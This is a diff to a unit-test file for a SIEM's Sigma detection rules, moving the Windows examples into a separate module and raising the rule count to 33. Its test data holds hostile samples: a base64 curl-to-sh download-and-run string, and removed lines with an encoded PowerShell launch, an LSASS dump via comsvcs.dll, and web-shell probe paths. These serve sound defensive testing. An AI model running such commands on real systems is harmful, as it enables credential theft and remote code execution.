@@ -1,4 +1,4 @@
-"""The 25 Sigma rules that come with Aurora: well formed, served by the engine, and right about what they are for.
+"""The 33 Sigma rules that come with Aurora: well formed, served by the engine, and right about what they are for.
 
 Each rule has lines that it must match and lines of the same kind that it must leave alone. The lines go through the
 real parsers and the real engine. Owns the examples; the recorded intrusion is test_samples' affair.
@@ -22,6 +22,7 @@ from sigma.validators.core import validators
 from services.siem.detections.engine import CompiledRule, Engine, compile_rule
 from services.siem.event import Event
 from services.siem.logs.parsers import parse_items
+from tests.unit.windows_rule_examples import WINDOWS
 
 RULES = Path(__file__).parents[2] / "services/siem/detections/rules"
 FILES = sorted(RULES.glob("*.yml"))
@@ -37,6 +38,7 @@ TACTICS = {
     "credential-access",
     "discovery",
     "command-and-control",
+    "lateral-movement",
 }
 
 
@@ -73,19 +75,7 @@ def opened(exe: str, key: str) -> list[str]:
     ]
 
 
-def started(image: str, command_line: str) -> list[str]:
-    """Sysmon's event of a program's start, as flat JSON."""
-    image, command_line = (text.replace("\\", "\\\\").replace('"', '\\"') for text in (image, command_line))
-    return [
-        '{"EventTime":"2026-11-22 02:00:00","Hostname":"pc","Channel":"Microsoft-Windows-Sysmon/Operational",'
-        f'"SourceName":"Microsoft-Windows-Sysmon","EventID":1,"Image":"{image}","CommandLine":"{command_line}"}}'
-    ]
-
-
 PAYLOAD = "Y3VybCBodHRwOi8vMTI3LjAuNjYuNjYvYXxzaAo="
-KEYED = "powershell.exe -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"
-POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
-RUNDLL32 = "C:\\Windows\\System32\\rundll32.exe"
 
 #: rule -> (what it must match, what it must not)
 EXAMPLES: dict[str, tuple[list[list[str]], list[list[str]]]] = {
@@ -284,21 +274,7 @@ EXAMPLES: dict[str, tuple[list[list[str]], list[list[str]]]] = {
         [web("/c99.php"), web("/uploads/x.php?cmd=id"), web("/.env"), web("/.git/config"), web("/server-status")],
         [web("/environment.html"), web("/shell-beach.html"), web("/list.php?c=lsd-lamps"), web("/.well-known/x")],
     ),
-    "windows_powershell_encoded_command": (
-        [started(POWERSHELL, KEYED), started(POWERSHELL, KEYED.replace("-enc", "/EncodedCommand"))],
-        [
-            started(POWERSHELL, "powershell.exe -ExecutionPolicy Bypass -File C:\\scripts\\inventory-of-the-week.ps1"),
-            started(POWERSHELL, "powershell.exe -Encoding UTF8"),
-        ],
-    ),
-    "windows_lsass_dump_comsvcs": (
-        [started(RUNDLL32, "rundll32.exe C:\\windows\\System32\\comsvcs.dll MiniDump 756 C:\\x.dmp full")],
-        [started(RUNDLL32, "rundll32.exe shell32.dll,Control_RunDLL")],
-    ),
-    "windows_security_log_cleared": (
-        [['{"EventTime":"2026-11-22 02:00:00","Hostname":"pc","Channel":"Security","EventID":1102}']],
-        [['{"EventTime":"2026-11-22 02:00:00","Hostname":"pc","Channel":"Security","EventID":4624}']],
-    ),
+    **WINDOWS,
 }
 
 CASES_MATCHED = [(name, lines) for name, (matched, _) in EXAMPLES.items() for lines in matched]
@@ -319,8 +295,8 @@ def matches(name: str, lines: list[str]) -> bool:
     return any(engine.evaluate(event) for event in events)
 
 
-def test_there_are_25_rules_and_each_has_examples() -> None:
-    assert len(FILES) == 25
+def test_there_are_33_rules_and_each_has_examples() -> None:
+    assert len(FILES) == 33
     assert {path.stem for path in FILES} == set(EXAMPLES)
     assert all(matched and spared for matched, spared in EXAMPLES.values())
 
